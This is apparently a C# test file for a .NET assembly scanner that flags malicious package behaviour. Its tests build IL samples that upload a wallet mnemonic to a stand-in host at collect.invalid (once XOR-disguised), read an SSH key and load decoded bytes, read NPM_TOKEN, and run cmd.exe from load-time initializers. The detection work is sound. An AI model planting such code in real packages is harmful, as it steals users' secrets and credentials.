using System.Diagnostics;
using System.Reflection;
using System.Reflection.Emit;
using System.Runtime.InteropServices;
using PackageWall.Inspection.Facts;
using PackageWall.Inspection.Languages.DotNet;

namespace PackageWall.Inspection.Tests.Languages.DotNet;

public sealed class DotNetReaderTests
{
    private static readonly MethodInfo Start = typeof(Process).GetMethod("Start", [typeof(string), typeof(string)])!;

    private static FileFacts Read(byte[] assembly) => new DotNetReader(FakeReaders.ReadAs, FakeReaders.Vocabulary).Read(FakeReaders.Source("lib/a.dll", assembly));

    private static void Run(ILGenerator il)
    {
        il.Emit(OpCodes.Ldstr, "cmd.exe");
        il.Emit(OpCodes.Ldstr, "/c echo hi");
        il.Emit(OpCodes.Call, Start);
        il.Emit(OpCodes.Pop);
    }

    [Fact]
    public void Calls_are_facts_of_their_method_with_the_strings_beside_them()
    {
        var sample = new Assemblies();
        TypeBuilder type = sample.Type("Space.Tool");
        Assemblies.Method(type, "Go", Run);
        FileFacts facts = Read(sample.Build(type));
        Fact process = facts.Facts.Single(fact => fact.Name == "execute.process");
        (process.Unit, process.Value).ShouldBe(("Space.Tool.Go", "cmd.exe /c echo hi"));
        process.Evidence.ShouldBe("Space.Tool.Go calls System.Diagnostics.Process.Start(\"cmd.exe\", \"/c echo hi\")");
        facts.Facts.Single(fact => fact.Name == "read-as.shell").Unit.ShouldBe("Space.Tool.Go");
        facts.Calls.ShouldBeEmpty();
    }

    [Fact]
    public void What_a_static_constructor_reaches_is_linked_to_loading()
    {
        var sample = new Assemblies();
        TypeBuilder type = sample.Type("Tool");
        MethodBuilder go = Assemblies.Method(type, "Go", Run);
        Assemblies.Method(type, "Idle", _ => { });
        type.DefineTypeInitializer().GetILGenerator().Call(go);
        FileFacts facts = Read(sample.Build(type));
        facts.Calls.ShouldBe([("", "Tool.Go"), ("Tool..cctor", "Tool.Go")], ignoreOrder: true);
        facts.Lines().ShouldContain("dotnet.static-constructor Tool..cctor");
    }

    [Fact]
    public void A_module_initializer_is_a_fact_and_runs_at_load()
    {
        var sample = new Assemblies();
        TypeBuilder type = sample.Type("Tool");
        MethodBuilder go = Assemblies.Method(type, "Go", Run);
        MethodBuilder initializer = sample.Module.DefineGlobalMethod(".cctor", MethodAttributes.Static | MethodAttributes.SpecialName | MethodAttributes.RTSpecialName, typeof(void), []);
        initializer.GetILGenerator().Call(go);
        sample.Module.CreateGlobalFunctions();
        FileFacts facts = Read(sample.Build(type));
        facts.Names().ShouldContain("dotnet.module-initializer");
        facts.Calls.ShouldContain(("", "<Module>..cctor"));
        facts.Calls.ShouldContain(("<Module>..cctor", "Tool.Go"));
    }

    [Fact]
    public void Virtual_calls_and_created_objects_reach_overrides()
    {
        var sample = new Assemblies();
        TypeBuilder type = sample.Type("Runner");
        const MethodAttributes Virtual = MethodAttributes.Public | MethodAttributes.Virtual | MethodAttributes.HideBySig | MethodAttributes.NewSlot;
        Assemblies.Method(type, "MoveNext", Run, Virtual);
        ConstructorBuilder create = type.DefineDefaultConstructor(MethodAttributes.Public);
        MethodBuilder initializer = sample.Module.DefineGlobalMethod(".cctor", MethodAttributes.Static | MethodAttributes.SpecialName | MethodAttributes.RTSpecialName, typeof(void), []);
        ILGenerator il = initializer.GetILGenerator();
        il.Emit(OpCodes.Newobj, create);
        il.Emit(OpCodes.Pop);
        il.Emit(OpCodes.Ret);
        sample.Module.CreateGlobalFunctions();
        FileFacts facts = Read(sample.Build(type));
        facts.Calls.ShouldContain(("<Module>..cctor", "new Runner"));
        facts.Calls.ShouldContain(("new Runner", "Runner.MoveNext"));
        facts.Names().ShouldNotContain("dotnet.load-reaches");
    }

    [Fact]
    public void What_an_object_could_be_asked_for_does_not_run_because_a_static_constructor_makes_one()
    {
        var sample = new Assemblies();
        TypeBuilder type = sample.Type("Transport");
        Assemblies.Method(type, "Process", Run, MethodAttributes.Public | MethodAttributes.Virtual | MethodAttributes.HideBySig | MethodAttributes.NewSlot);
        ConstructorBuilder create = type.DefineDefaultConstructor(MethodAttributes.Public);
        TypeBuilder other = sample.Type("Other");
        ILGenerator il = other.DefineTypeInitializer().GetILGenerator();
        il.Emit(OpCodes.Newobj, create);
        il.Emit(OpCodes.Pop);
        il.Emit(OpCodes.Ret);
        Read(sample.Build(type, other)).Calls.ShouldNotContain(("new Transport", "Transport.Process"));
    }

    [Fact]
    public void What_a_module_initializer_leads_to_for_certain_is_said()
    {
        var sample = new Assemblies();
        TypeBuilder type = sample.Type("Tool");
        MethodBuilder go = Assemblies.Method(type, "Go", Run);
        sample.Module.DefineGlobalMethod(".cctor", MethodAttributes.Static | MethodAttributes.SpecialName | MethodAttributes.RTSpecialName, typeof(void), []).GetILGenerator().Call(go);
        sample.Module.CreateGlobalFunctions();
        Fact fact = Read(sample.Build(type)).Facts.Single(fact => fact.Name == "dotnet.load-reaches");
        (fact.Value, fact.Unit).ShouldBe(("execute.process", ""));
        fact.Evidence.ShouldStartWith("<Module>..cctor leads to Tool.Go calls");
    }

    [Fact]
    public void A_secret_that_is_handed_on_flows_into_what_the_other_method_sends()
    {
        var sample = new Assemblies();
        TypeBuilder type = sample.Type("Wallet");
        MethodBuilder shuffle = type.DefineMethod("Shuffle", MethodAttributes.Public | MethodAttributes.Static, typeof(void), [typeof(string)]);
        shuffle.DefineParameter(1, ParameterAttributes.None, "value");
        ILGenerator il = shuffle.GetILGenerator();
        il.Emit(OpCodes.Newobj, typeof(System.Net.WebClient).GetConstructor([])!);
        il.Emit(OpCodes.Ldstr, "https://collect.invalid/");
        il.Emit(OpCodes.Ldarg_0);
        il.Emit(OpCodes.Callvirt, typeof(System.Net.WebClient).GetMethod("UploadString", [typeof(string), typeof(string)])!);
        il.Emit(OpCodes.Pop);
        il.Emit(OpCodes.Ret);
        MethodBuilder open = type.DefineMethod("Open", MethodAttributes.Public | MethodAttributes.Static, typeof(void), [typeof(string)]);
        open.DefineParameter(1, ParameterAttributes.None, "mnemonic");
        il = open.GetILGenerator();
        il.Emit(OpCodes.Ldarg_0);
        il.Call(shuffle);
        Read(sample.Build(type)).Facts.Single(fact => fact.Name == "network.send").From.ShouldBe(["read.parameter.secret"]);
    }

    [Fact]
    public void A_disguised_address_is_where_data_goes()
    {
        var sample = new Assemblies();
        TypeBuilder type = sample.Type("Wallet");
        MethodBuilder open = type.DefineMethod("Open", MethodAttributes.Public | MethodAttributes.Static, typeof(void), [typeof(string)]);
        open.DefineParameter(1, ParameterAttributes.None, "mnemonic");
        ILGenerator il = open.GetILGenerator();
        il.Emit(OpCodes.Newobj, typeof(System.Net.WebClient).GetConstructor([])!);
        il.Emit(OpCodes.Ldstr, string.Concat("https://collect.invalid/".Select(letter => (char)(letter ^ 5))));
        il.Emit(OpCodes.Ldarg_0);
        il.Emit(OpCodes.Callvirt, typeof(System.Net.WebClient).GetMethod("UploadString", [typeof(string), typeof(string)])!);
        il.Emit(OpCodes.Pop);
        il.Emit(OpCodes.Ret);
        FileFacts facts = Read(sample.Build(type));
        facts.Facts.Single(fact => fact.Name == "network.send").Value.ShouldBe("https://collect.invalid/");
        facts.Facts.Single(fact => fact.Name == "network.disguised").From.ShouldContain("read.parameter.secret");
    }

    [Fact]
    public void A_type_that_keeps_one_address_sends_there()
    {
        var sample = new Assemblies();
        TypeBuilder type = sample.Type("Wallet");
        FieldBuilder host = type.DefineField("_host", typeof(string), FieldAttributes.Static);
        ILGenerator il = type.DefineTypeInitializer().GetILGenerator();
        il.Emit(OpCodes.Ldstr, "https://collect.invalid/");
        il.Emit(OpCodes.Stsfld, host);
        il.Emit(OpCodes.Ret);
        MethodBuilder open = type.DefineMethod("Open", MethodAttributes.Public | MethodAttributes.Static, typeof(void), [typeof(string)]);
        open.DefineParameter(1, ParameterAttributes.None, "mnemonic");
        il = open.GetILGenerator();
        il.Emit(OpCodes.Newobj, typeof(System.Net.WebClient).GetConstructor([])!);
        il.Emit(OpCodes.Ldsfld, host);
        il.Emit(OpCodes.Ldarg_0);
        il.Emit(OpCodes.Callvirt, typeof(System.Net.WebClient).GetMethod("UploadString", [typeof(string), typeof(string)])!);
        il.Emit(OpCodes.Pop);
        il.Emit(OpCodes.Ret);
        Read(sample.Build(type)).Facts.Single(fact => fact.Name == "network.send").Value.ShouldBe("https://collect.invalid/");
    }

    [Fact]
    public void Imports_from_the_system_are_facts()
    {
        var sample = new Assemblies();
        TypeBuilder type = sample.Type("Native");
        type.DefinePInvokeMethod("VirtualAllocEx", "kernel32.dll", MethodAttributes.Public | MethodAttributes.Static | MethodAttributes.PinvokeImpl, CallingConventions.Standard, typeof(void), [], CallingConvention.Winapi, CharSet.Auto);
        Read(sample.Build(type)).Lines().ShouldBe(["dotnet.pinvoke kernel32.dll!VirtualAllocEx", "execute.memory VirtualAllocEx"]);
    }

    [Fact]
    public void What_was_read_or_decoded_before_is_taken_to_flow_into_what_runs_after()
    {
        var sample = new Assemblies();
        TypeBuilder type = sample.Type("Tool");
        Assemblies.Method(type, "Go", il =>
        {
            il.Emit(OpCodes.Ldstr, "/home/a/.ssh/id_rsa");
            il.Emit(OpCodes.Call, typeof(File).GetMethod("ReadAllText", [typeof(string)])!);
            il.Emit(OpCodes.Call, typeof(Convert).GetMethod("FromBase64String")!);
            il.Emit(OpCodes.Call, typeof(Assembly).GetMethod("Load", [typeof(byte[])])!);
            il.Emit(OpCodes.Pop);
        });
        FileFacts facts = Read(sample.Build(type));
        facts.Facts.Single(fact => fact.Name == "execute.assembly").From.ShouldBe(["read.secret.ssh", "read.file", "decode"]);
    }

    [Fact]
    public void Loading_by_name_is_not_loading_from_bytes()
    {
        var sample = new Assemblies();
        TypeBuilder type = sample.Type("Tool");
        Assemblies.Method(type, "Go", il =>
        {
            il.Emit(OpCodes.Ldstr, "Other");
            il.Emit(OpCodes.Call, typeof(Assembly).GetMethod("Load", [typeof(string)])!);
            il.Emit(OpCodes.Pop);
        });
        Read(sample.Build(type)).Names().ShouldBe(["dynamic.import"]);
    }

    [Fact]
    public void Variables_hosts_and_mixed_scripts_are_facts()
    {
        var sample = new Assemblies();
        TypeBuilder type = sample.Type("N\u0435t");
        Assemblies.Method(type, "Go", il =>
        {
            il.Emit(OpCodes.Ldstr, "NPM_TOKEN");
            il.Emit(OpCodes.Call, typeof(Environment).GetMethod("GetEnvironmentVariable", [typeof(string)])!);
            il.Emit(OpCodes.Pop);
            il.Emit(OpCodes.Ldstr, "https://drop.invalid/x");
            il.Emit(OpCodes.Pop);
        });
        Read(sample.Build(type)).Lines().ShouldBe(["read.env.secret NPM_TOKEN", "network.drop https://drop.invalid/x", "network.host https://drop.invalid/x", "text.mixed-script N\u0435t"], ignoreOrder: true);
    }

    [Fact]
    public void Real_assemblies_are_read_to_their_end_with_their_async_methods_linked()
    {
        FileFacts facts = Read(File.ReadAllBytes(typeof(Sample).Assembly.Location));
        facts.Unread.ShouldBeEmpty();
        string unit = facts.Facts.Single(fact => fact.Value == "https://drop.invalid/async" && fact.Name == "network.fetch").Unit;
        unit.ShouldContain("MoveNext");
        facts.Calls.Where(call => call.Callee == unit).Select(call => call.Caller).ShouldContain($"new {unit[..unit.LastIndexOf('.')]}");
        facts.Calls.ShouldContain(call => call.Caller.EndsWith("Sample.Fetch", StringComparison.Ordinal) && call.Callee.StartsWith("new ", StringComparison.Ordinal));
        facts.References.ShouldContain(reference => reference.Target == "PackageWall.Inspection.dll");
    }

    [Fact]
    public void Broken_assemblies_are_unread_and_never_throw()
    {
        byte[] good = File.ReadAllBytes(typeof(DotNetReader).Assembly.Location);
        var random = new Random(11);
        for (int i = 0; i < 60; i++)
        {
            byte[] bad = good[..random.Next(good.Length / 2, good.Length)];
            for (int flips = 0; flips < 200; flips++)
            {
                bad[random.Next(bad.Length)] = (byte)random.Next(256);
            }

            Read(bad).ShouldNotBeNull();
        }

        Read([]).Unread.ShouldNotBeEmpty();
        Read("MZ"u8.ToArray()).Unread.ShouldNotBeEmpty();
    }

    /// <summary>Compiled into this assembly to be read from it; never called.</summary>
    private static class Sample
    {
        public static async Task<string> Fetch()
        {
            using var client = new HttpClient();
            return await client.GetStringAsync(new Uri("https://drop.invalid/async"));
        }
    }
}
